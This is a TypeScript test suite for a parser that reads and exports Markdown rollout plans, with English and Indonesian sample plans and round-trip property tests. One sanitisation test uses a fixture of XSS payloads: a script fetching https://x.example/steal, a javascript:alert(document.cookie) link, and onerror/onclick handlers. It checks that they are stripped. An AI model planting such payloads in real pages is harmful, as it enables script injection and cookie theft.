import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  draftFromDocument,
  itemKey,
  parsePlanJson,
  parsePlanMarkdown,
  planContent,
  planDocumentSchema,
  type PlanDocument,
  planToJson,
  planToMarkdown,
} from "@/lib/domain/plan-markdown";
import { LIMITS } from "@/lib/domain/plan-markdown/schema";
import { cleanBlock, cleanInline, readDays, readPercent, readQuantity } from "@/lib/domain/plan-markdown/text";

const english = `# Checkout v2 rollout

**Version:** 2.4.0

**Strategy:** Canary

## Overview

One-page checkout behind a canary.

## Pre-Deployment Checklist

- [x] All tests passing
- [ ] Code review approved

## Rollout Stages

| Stage | Audience | Duration | Goal |
|---|---|---|---|
| Stage 1: Canary | 5% of traffic | 2 days | Catch regressions |
| Stage 2: Wider | 20-50% of users | 1 week | Widen |
| Stage 3: GA | All users | Ongoing | Everyone |

## Stage 1: Canary

### Success Criteria
- [ ] Error rate < 1%
- [ ] No P0 bugs

## Stage 2: Wider

### Go/No-Go Checklist
- [ ] Support briefed

### Metrics to Track
| Metric | Target | Alert Threshold | Critical |
|---|---|---|---|
| Error rate | < 1% | > 2% | > 5% |
| Checkout success | > 98% | < 95% | < 90% |

## Rollback Triggers

**Automatic Rollback:**
- Error rate > 5% for 5 min

**Manual Rollback Decision:**
- Checkout success < 90% for 1 hour
- Angry tweets

## Risks

| Risk | Likelihood | Impact | Mitigation |
|---|---|---|---|
| Payment provider timeout | Medium | High | Retry with backoff |

## Communication Plan

| Event | When | Channel | Audience | Message |
|---|---|---|---|---|
| Canary start | Day 1 | #releases | Engineering | Canary live |

## Escalation

| Level | Who | After (min) |
|---|---|---|
| 1 | On-call engineer | 0 |
| 2 | Engineering manager | 30 |

## Roles

- Release manager: Dana
- Approver: Sam

## Lessons from last time

We forgot the support macros.
`;

const indonesian = `# Rencana Rollout Pembayaran

**Versi:** 1.2.0

## Ringkasan

Peluncuran bertahap fitur pembayaran baru.

## Daftar Periksa Sebelum Deploy

- [ ] Semua tes lulus
- [ ] Migrasi basis data diuji

## Tahap 1: Internal

### Audiens
Tim internal saja

### Durasi
2 hari

### Kriteria Keberhasilan
- [ ] Tidak ada bug kritis
- [ ] Tingkat error < 1%

## Tahap 2: Pilot

### Audiens
10% pengguna di Jakarta

### Durasi
1-2 minggu

### Daftar Periksa Go/No-Go
- [ ] Umpan balik positif

## Metrik

| Metrik | Target | Ambang Batas |
|---|---|---|
| Tingkat error | < 1% | > 2% |

## Pemicu Rollback

- Tingkat error > 5% selama 10 menit

## Risiko

| Risiko | Kemungkinan | Dampak | Mitigasi |
|---|---|---|---|
| Gateway lambat | Tinggi | Sedang | Timeout dan retry |

## Komunikasi

| Tahap | Waktu | Saluran | Pesan |
|---|---|---|---|
| Pilot | Hari 1 | Email | Pilot dimulai |

## Peran

| Peran | Siapa |
|---|---|
| Manajer rilis | Budi |

## Eskalasi

| Tingkat | Siapa | Setelah (menit) |
|---|---|---|
| 1 | Engineer on-call | 15 |
`;

describe("reading a Markdown rollout plan", () => {
  test("an English plan: phases, checklists, KPIs, triggers, risks, comms, escalation, roles, notes", () => {
    const plan = parsePlanMarkdown(english);
    expect(planDocumentSchema.safeParse(plan).success).toBe(true);
    expect(plan).toMatchObject({
      name: "Checkout v2 rollout",
      version: "2.4.0",
      strategy: "canary",
      summary: "One-page checkout behind a canary.",
    });
    expect(plan.phases.map((p) => [p.name, p.trafficPercent, p.plannedDays])).toEqual([
      ["Canary", 5, 2],
      ["Wider", 50, 7],
      ["GA", 100, null],
    ]);
    expect(plan.checklists.map((c) => [c.title, c.kind, c.phase, c.items.length])).toEqual([
      ["Pre-Deployment Checklist", "pre_deployment", null, 2],
      ["Success Criteria", "go_no_go", 0, 2],
      ["Go/No-Go Checklist", "go_no_go", 1, 1],
    ]);
    expect(plan.checklists[0]!.items[0]).toEqual({ text: "All tests passing", done: true });
    expect(plan.metrics).toEqual([
      {
        key: "error_rate",
        label: "Error rate",
        unit: "%",
        direction: "lower_is_better",
        target: 1,
        alert: 2,
        critical: 5,
      },
      {
        key: "checkout_success",
        label: "Checkout success",
        unit: "%",
        direction: "higher_is_better",
        target: 98,
        alert: 95,
        critical: 90,
      },
    ]);
    expect(plan.triggers.map((t) => [t.metric, t.comparison, t.value, t.durationMinutes, t.action])).toEqual([
      ["error_rate", "gt", 5, 5, "automatic_rollback"],
      ["checkout_success", "lt", 90, 60, "alert_only"],
      [null, "gt", 0, 0, "alert_only"],
    ]);
    expect(plan.risks).toEqual([
      {
        description: "Payment provider timeout",
        likelihood: "medium",
        impact: "high",
        mitigation: "Retry with backoff",
      },
    ]);
    expect(plan.comms).toEqual([
      {
        event: "Canary start",
        timing: "Day 1",
        channel: "#releases",
        audience: "Engineering",
        template: "Canary live",
      },
    ]);
    expect(plan.escalation).toEqual([
      { level: 1, who: "On-call engineer", afterMinutes: 0 },
      { level: 2, who: "Engineering manager", afterMinutes: 30 },
    ]);
    expect(plan.roles).toEqual([
      { role: "Release manager", who: "Dana" },
      { role: "Approver", who: "Sam" },
    ]);
    expect(plan.notes).toEqual([{ section: "Lessons from last time", text: "We forgot the support macros." }]);
  });

  test("an Indonesian plan: Tahap, Daftar periksa, Kriteria keberhasilan, Metrik, Pemicu rollback, Risiko, Komunikasi, Peran, Eskalasi", () => {
    const plan = parsePlanMarkdown(indonesian);
    expect(planDocumentSchema.safeParse(plan).success).toBe(true);
    expect(plan).toMatchObject({
      name: "Rencana Rollout Pembayaran",
      version: "1.2.0",
      summary: "Peluncuran bertahap fitur pembayaran baru.",
    });
    expect(plan.phases.map((p) => [p.name, p.audience, p.trafficPercent, p.plannedDays])).toEqual([
      ["Internal", "Tim internal saja", 0, 2],
      ["Pilot", "10% pengguna di Jakarta", 10, 14],
    ]);
    expect(plan.checklists.map((c) => [c.kind, c.phase, c.items.length])).toEqual([
      ["pre_deployment", null, 2],
      ["go_no_go", 0, 2],
      ["go_no_go", 1, 1],
    ]);
    // "Tingkat error" is the common KPI error_rate, in Indonesian.
    expect(plan.metrics).toEqual([
      {
        key: "error_rate",
        label: "Tingkat error",
        unit: "%",
        direction: "lower_is_better",
        target: 1,
        alert: 2,
        critical: null,
      },
    ]);
    expect(plan.triggers).toEqual([
      {
        description: "Tingkat error > 5% selama 10 menit",
        metric: "error_rate",
        mode: "absolute",
        comparison: "gt",
        value: 5,
        durationMinutes: 10,
        action: "automatic_rollback",
      },
    ]);
    expect(plan.risks).toEqual([
      { description: "Gateway lambat", likelihood: "high", impact: "medium", mitigation: "Timeout dan retry" },
    ]);
    expect(plan.comms).toEqual([
      { event: "Pilot", timing: "Hari 1", channel: "Email", audience: "", template: "Pilot dimulai" },
    ]);
    expect(plan.roles).toEqual([{ role: "Manajer rilis", who: "Budi" }]);
    expect(plan.escalation).toEqual([{ level: 1, who: "Engineer on-call", afterMinutes: 15 }]);
  });

  test("scripts, HTML and javascript: links come out as inert plain text", () => {
    const hostile = `# Evil <script>alert(1)</script> plan

<script>fetch("https://x.example/steal")</script>

## Overview

Click [here](javascript:alert(document.cookie)) or <img src=x onerror=alert(1)> now.

## Stage 1: Canary <b onclick="x()">bold</b>

### Audience
[10%](javascript:alert(1)) of users

### Success Criteria
- [ ] <iframe src="javascript:alert(1)"></iframe>Page loads
- [ ] javascript:alert(1) stays words

## Notes about it

<div onmouseover="alert(1)">hover</div>
`;
    const plan = parsePlanMarkdown(hostile);
    const json = JSON.stringify(plan);
    expect(json).not.toMatch(/<script|<img|<iframe|<div|<b |onerror|onclick|onmouseover/i);
    expect(plan.name).toBe("Evil alert(1) plan");
    expect(plan.summary).toBe("Click here or now.");
    expect(plan.phases).toEqual([
      expect.objectContaining({ name: "Canary bold", audience: "10% of users", trafficPercent: 10 }),
    ]);
    expect(plan.checklists[0]!.items.map((i) => i.text)).toEqual(["Page loads", "javascript:alert(1) stays words"]);
    expect(plan.notes.at(-1)!.text).toMatch(/raw HTML were removed/);
    const markdown = planToMarkdown(plan);
    expect(markdown).not.toMatch(/<[a-z]/i);
    expect(markdown).not.toMatch(/\]\(javascript:/i);
    expect(parsePlanMarkdown(markdown).checklists).toEqual(plan.checklists);
  });

  test("a criterion that the canary must not be worse than the baseline becomes the canary judge", () => {
    const plan = parsePlanMarkdown(`# Judge plan

## KPIs

| KPI | Key | Unit | Direction | Target | Alert | Critical |
| --- | --- | --- | --- | --- | --- | --- |
| Error rate | error_rate | % | lower is better | 1 | 2 | 5 |

## Rollback criteria

- Error rate on the canary is worse than the baseline
- Tingkat error canary lebih buruk dari baseline
- Error rate > 5% for 5 min
`);
    expect(plan.triggers.map((t) => [t.metric, t.mode, t.action, t.judge ?? null])).toEqual([
      ["error_rate", "canary_worse", "automatic_rollback", null],
      ["error_rate", "canary_worse", "automatic_rollback", null],
      ["error_rate", "absolute", "automatic_rollback", null],
    ]);
    // The export states the settings, and reads back the same.
    const judged = {
      ...plan,
      triggers: [
        {
          ...plan.triggers[0]!,
          judge: {
            method: "mann_whitney" as const,
            alpha: 0.02,
            minSample: 50,
            tolerance: 0.25,
            smallestRegression: 0.1,
          },
        },
      ],
    };
    const markdown = planToMarkdown(judged);
    expect(markdown).toContain(
      "— when `error_rate` is worse on the canary than the baseline (mann_whitney, alpha 0.02, min 50 per cohort, tolerance 0.25, smallest regression 0.1), automatic rollback",
    );
    expect(parsePlanMarkdown(markdown).triggers).toEqual(judged.triggers);
  });

  test("control characters are stripped and lengths capped", () => {
    const plan = parsePlanMarkdown(`# A\u0000B\u202Eplan ${"x".repeat(500)}\n`);
    expect(plan.name).toMatch(/^ABplan x+$/);
    expect(plan.name.length).toBeLessThanOrEqual(120);
  });

  test("any text at all gives a preview the schema accepts (or names what to fix)", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), (text) => {
        const plan = parsePlanMarkdown(text);
        const checked = planDocumentSchema.safeParse(plan);
        if (!checked.success) expect(checked.error.issues.every((i) => i.path[0] === "metrics")).toBe(true);
      }),
      { numRuns: 200 },
    );
  });
});

describe("words to numbers", () => {
  test.each([
    ["5-10% of users", 10],
    ["25% of total users", 25],
    ["1,5% pengguna", 1.5],
    ["Team only", null],
    ["[X]% of users", null],
  ])("traffic in %s is %s", (text, expected) => expect(readPercent(text)).toBe(expected));

  test.each([
    ["1-2 days", 2],
    ["1-2 weeks", 14],
    ["48 hours", 2],
    ["Week 3", 7],
    ["2 hari", 2],
    ["1-2 minggu", 14],
    ["Ongoing", null],
    ["[X] days", null],
  ])("%s plans %s days", (text, expected) => expect(readDays(text)).toBe(expected));

  test.each([
    ["p95 < 500ms", { comparison: "lt", value: 500, unit: "ms" }],
    ["> 99.9%", { comparison: "gt", value: 99.9, unit: "%" }],
    ["lebih dari 80%", { comparison: "gt", value: 80, unit: "%" }],
    ["> [X]%", null],
  ])("%s reads as a quantity", (text, expected) => expect(readQuantity(text)).toEqual(expected));

  test("item keys are unique per list and CI-friendly", () => {
    const taken = new Set<string>();
    expect([itemKey("All tests passing", taken), itemKey("All tests passing", taken), itemKey("✓", taken)]).toEqual([
      "all-tests-passing",
      "all-tests-passing-2",
      "item",
    ]);
  });
});

// Generated plans in the canonical form the exporter writes and the reader returns.
const word = fc.constantFrom(
  "alpha",
  "Beta",
  "gamma",
  "rollout",
  "users",
  "canary",
  "Jakarta",
  "p95",
  "50%",
  "<b>",
  "*x*",
  "`c`",
  "[y]",
  "a|b",
  "#1",
  "— x",
  "ümlaut",
  "error",
  "javascript:alert(1)",
);
const phrase = (min = 1, max = 5) =>
  fc.array(word, { minLength: min, maxLength: max }).map((w) => cleanInline(w.join(" ")));
const optionalPhrase = fc.option(phrase(), { nil: "" });
const num = fc.integer({ min: -1000, max: 100000 }).map((n) => n / 100);

const metricArb = fc.record({
  label: phrase(),
  unit: fc.constantFrom("", "%", "ms", "jobs"),
  direction: fc.constantFrom("lower_is_better" as const, "higher_is_better" as const),
  t: fc.option(num, { nil: null }),
  a: fc.option(num, { nil: null }),
  c: fc.option(num, { nil: null }),
});

const judgeArb = fc.record({
  method: fc.constantFrom("sequential" as const, "mann_whitney" as const),
  alpha: fc.integer({ min: 1, max: 200 }).map((n) => n / 1000),
  minSample: fc.integer({ min: 1, max: 100_000 }),
  tolerance: fc.integer({ min: 0, max: 300 }).map((n) => n / 100),
  smallestRegression: fc.integer({ min: 1, max: 300 }).map((n) => n / 100),
});

const planArb = fc
  .record({
    kind: fc.constantFrom("rollout" as const, "rollback_runbook" as const),
    name: phrase(),
    version: fc.constantFrom("", "1.0", "2.4.0-rc.1"),
    summary: fc.option(
      fc.array(phrase(1, 8), { minLength: 1, maxLength: 3 }).map((p) => p.join("\n\n")),
      { nil: "" },
    ),
    strategy: fc.constantFrom("canary" as const, "blue_green" as const, "rolling" as const, "flag_based" as const),
    phases: fc.array(
      fc.record({
        // Within a phase name's limit: five of the longest words are past it.
        name: phrase().filter((n) => n.length <= LIMITS.phaseName),
        audience: optionalPhrase,
        trafficPercent: fc.integer({ min: 0, max: 10000 }).map((n) => n / 100),
        durationText: fc.constantFrom("", "2 days", "1-2 weeks", "Week 3", "48 hours", "Ongoing"),
        goal: optionalPhrase,
      }),
      { maxLength: 4 },
    ),
    checklists: fc.array(
      fc.record({
        title: phrase().map((t) => `Checks ${t}`),
        kind: fc.constantFrom(
          "pre_deployment" as const,
          "go_no_go" as const,
          "post_deployment" as const,
          "post_rollback" as const,
        ),
        window: fc.constantFrom("immediate" as const, "short_term" as const, "long_term" as const),
        phase: fc.nat(5),
        items: fc.array(fc.record({ text: phrase(), done: fc.boolean() }), { maxLength: 4 }),
      }),
      { maxLength: 5 },
    ),
    metrics: fc.uniqueArray(metricArb, { maxLength: 4, selector: (m) => m.label }),
    triggers: fc.array(
      fc.record({
        description: phrase(),
        metric: fc.nat(5),
        mode: fc.constantFrom(
          "absolute" as const,
          "relative_to_baseline" as const,
          "degradation_pct" as const,
          "canary_worse" as const,
        ),
        comparison: fc.constantFrom("gt" as const, "gte" as const, "lt" as const, "lte" as const),
        value: num,
        durationMinutes: fc.nat(600),
        automatic: fc.boolean(),
        judge: fc.option(judgeArb, { nil: null }),
      }),
      { maxLength: 4 },
    ),
    risks: fc.array(
      fc.record({
        description: phrase(),
        likelihood: fc.constantFrom("low" as const, "medium" as const, "high" as const),
        impact: fc.constantFrom("low" as const, "medium" as const, "high" as const),
        mitigation: optionalPhrase,
      }),
      { maxLength: 3 },
    ),
    comms: fc.array(
      fc.record({
        event: phrase(),
        timing: optionalPhrase,
        channel: optionalPhrase,
        audience: optionalPhrase,
        template: optionalPhrase,
      }),
      { maxLength: 3 },
    ),
    escalation: fc.uniqueArray(
      fc.record({ level: fc.integer({ min: 1, max: 9 }), who: phrase(), afterMinutes: fc.nat(240) }),
      { maxLength: 3, selector: (e) => e.level },
    ),
    roles: fc.array(fc.record({ role: phrase(), who: optionalPhrase }), { maxLength: 3 }),
    notes: fc.uniqueArray(
      fc.record({
        section: phrase().map((s) => `Kept ${s}`),
        text: fc
          .array(
            fc.array(phrase(1, 6), { minLength: 1, maxLength: 3 }).map((lines) => lines.join("\n")),
            { minLength: 1, maxLength: 3 },
          )
          .map((p) => cleanBlock(p.join("\n\n"))),
      }),
      { maxLength: 3, selector: (n) => n.section },
    ),
  })
  .map((raw): PlanDocument => {
    // A rollback runbook's steps move no traffic, and its lists are what to check after rolling back.
    const runbook = raw.kind === "rollback_runbook";
    const steps =
      runbook && raw.phases.length === 0
        ? [{ name: "Rollback", audience: "", trafficPercent: 0, durationText: "", goal: "" }]
        : raw.phases;
    const phases = steps.map((p) => ({
      ...p,
      trafficPercent: runbook ? 0 : p.trafficPercent,
      plannedDays: runbook ? null : readDays(p.durationText),
      durationText: runbook ? "" : p.durationText,
    }));
    const seen = new Set<string>();
    const metrics = raw.metrics
      .map((m, i) => {
        // Thresholds in the metric's bad direction, as the schema requires.
        const values = [m.t, m.a, m.c]
          .filter((v): v is number => v !== null)
          .sort((x, y) => (m.direction === "lower_is_better" ? x - y : y - x));
        const pick = () => (values.length ? values.shift()! : null);
        return {
          key: `kpi_${i}`,
          label: m.label,
          unit: m.unit,
          direction: m.direction,
          target: m.t === null ? null : pick(),
          alert: m.a === null ? null : pick(),
          critical: m.c === null ? null : pick(),
        };
      })
      .filter((m) => !seen.has(m.key) && seen.add(m.key));
    const checklists = raw.checklists
      .map((c) => {
        const phase = phases.length && c.kind !== "pre_deployment" ? c.phase % (phases.length + 1) : phases.length;
        const at = phase < phases.length ? phase : null;
        const kind = c.kind === "go_no_go" && at === null ? "pre_deployment" : c.kind;
        return {
          title: c.title,
          kind,
          window: kind === "post_deployment" ? c.window : null,
          phase: at,
          items: c.items,
        };
      })
      .map((c, i) => ({ c, i }))
      .sort((a, b) => (a.c.phase ?? -1) - (b.c.phase ?? -1) || a.i - b.i)
      .map(({ c }) => c);
    const triggers = raw.triggers.map((t) => {
      const metric = metrics.length && t.metric < metrics.length ? metrics[t.metric]!.key : null;
      // The canary judge: a KPI, its settings (or the defaults), no threshold of its own.
      if (t.mode === "canary_worse" && metric) {
        return {
          description: t.description,
          metric,
          mode: t.mode,
          comparison: "gt" as const,
          value: 0,
          durationMinutes: 0,
          action: t.automatic ? ("automatic_rollback" as const) : ("alert_only" as const),
          judge: t.judge,
        };
      }
      if (t.mode === "canary_worse") t.mode = "absolute";
      return {
        description: t.description,
        metric,
        mode: t.mode,
        comparison: t.comparison,
        value: t.value,
        durationMinutes: t.durationMinutes,
        action: metric && t.automatic ? ("automatic_rollback" as const) : ("alert_only" as const),
      };
    });
    const lists = runbook
      ? checklists.map((c) => ({ ...c, kind: "post_rollback" as const, window: null, phase: null }))
      : checklists;
    return { ...raw, phases, metrics, checklists: lists, triggers, sequences: [], sections: [] };
  });

const content = planContent;

describe("export and import again", () => {
  test("generated plans are valid documents", () => {
    fc.assert(
      fc.property(planArb, (plan) => {
        expect(planDocumentSchema.safeParse(plan).error?.issues ?? []).toEqual([]);
      }),
      { numRuns: 100 },
    );
  });

  // Each run parses a whole generated document: 150 runs cover the shapes, and the timeout
  // leaves room for a busy machine.
  test("parse(export(plan)) is the plan, for every field the document carries", { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(planArb, (plan) => {
        const markdown = planToMarkdown(plan);
        expect(content(parsePlanMarkdown(markdown))).toEqual(content(plan));
      }),
      { numRuns: 150 },
    );
  });

  test("the JSON export reads back as the same plan", () => {
    fc.assert(
      fc.property(planArb, (plan) => {
        expect(content(parsePlanJson(planToJson(plan)))).toEqual(content(plan));
      }),
      { numRuns: 100 },
    );
  });

  test.each([
    ["English", english],
    ["Indonesian", indonesian],
  ])("the %s example survives export and import unchanged", (_, markdown) => {
    const plan = parsePlanMarkdown(markdown);
    expect(content(parsePlanMarkdown(planToMarkdown(plan)))).toEqual(content(plan));
  });

  test("the export has the shape teams write: stages table, task lists, KPI table", () => {
    const markdown = planToMarkdown(parsePlanMarkdown(english));
    expect(markdown).toMatch(/\| Stage +\| Name +\| Audience +\| Traffic +\| Duration +\| Goal +\|/);
    expect(markdown).toContain("## Stage 2: Wider");
    expect(markdown).toContain("- [x] All tests passing");
    expect(markdown).toMatch(/\| KPI +\| Key +\| Unit +\| Direction +\| Target +\| Alert +\| Critical +\|/);
    expect(markdown).toMatch(/- Error rate > 5% for 5 min — when `error_rate` > 5 for 5 min, automatic rollback/);
  });

  test("a draft for the plan service keeps ticked items and phase checklists in place", () => {
    const draft = draftFromDocument(parsePlanMarkdown(english));
    expect(draft.checklists[0]!.items.map((i) => [i.key, i.done])).toEqual([
      ["all-tests-passing", true],
      ["code-review-approved", false],
    ]);
    expect(draft.phases.map((p) => [p.durationDays, p.checklists.length])).toEqual([
      [2, 1],
      [7, 1],
      [0, 0],
    ]);
  });
});
